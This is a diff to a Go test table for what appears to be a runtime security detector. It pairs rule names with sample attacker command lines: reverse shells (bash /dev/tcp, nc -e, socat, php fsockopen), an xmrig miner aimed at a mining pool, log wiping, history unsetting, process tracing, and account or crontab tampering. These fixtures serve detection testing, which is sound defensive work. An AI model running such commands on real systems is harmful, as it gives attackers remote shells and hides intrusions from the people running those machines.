@@ -87,9 +87,11 @@ func TestKinds(t *testing.T) {
 		{"docker-miner", "xmrig|xmrig-6.21|./x -o stratum+tcp://p:1|x --donate-level=1|x -o gulf.moneroocean.stream:10128"},
 		{"base-reverse-shell", "sh -c bash -i >& /dev/tcp/192.0.2.1/44 0>&1|bash -c exec 5<>/dev/tcp/h/1; cat <&5|php -r $s=fsockopen(1);exec(/bin/sh)"},
 		{"base-reverse-shell docker-network-tool", "nc -e /bin/sh h 1|nc h 1 -e/bin/sh|ncat --sh-exec x h|socat exec:sh tcp:h:1"},
-		{"base-exec-from-temporary-directory", "/usr/bin/bash -ex /tmp/x.sh|/usr/bin/python3 -u /dev/shm/x.py|/tmp/x|/dev/shm/.x/y|/usr/bin/dash /tmp/x.sh|/usr/bin/python3.12 /var/tmp/x.py"},
+		{"base-exec-from-temporary-directory", "/usr/bin/bash -ex /tmp/x.sh|/bin/busybox sh /tmp/x.sh|/usr/bin/python3 -u /dev/shm/x.py|/tmp/x|/dev/shm/.x/y|/usr/bin/dash /tmp/x.sh|/usr/bin/python3.12 /var/tmp/x.py"},
 		{"base-logs-cleared", "rm -rf /var/log|rm /var/log/wtmp|shred -u /var/log/auth.log|truncate -s 0 /var/log/syslog|sed -i /x/d /var/log/secure|" +
 			"dd if=/dev/zero of=/var/log/messages|sh -c unset HISTFILE|sh -c > /var/log/auth.log|journalctl --vacuum-time=1s|dmesg -C"},
+		{"base-process-traced", "gdb -p 1|strace -fp 1|strace -p1|gdb --pid=1"},
+		{"docker-network-tool", "telnet h 25"},
 		{"base-account-added", "useradd x|adduser x|usermod -aG sudo x|groupadd x|gpasswd -a x sudo"},
 		{"base-crontab-changed", "crontab -e|crontab -|crontab f|crontab -u x f|sh -c echo x >>/etc/crontab|bash -c cat j > '/var/spool/cron/x'|tee /etc/cron.d/x"},
 		{"base-kernel-module-loaded", "insmod x.ko|modprobe x"},
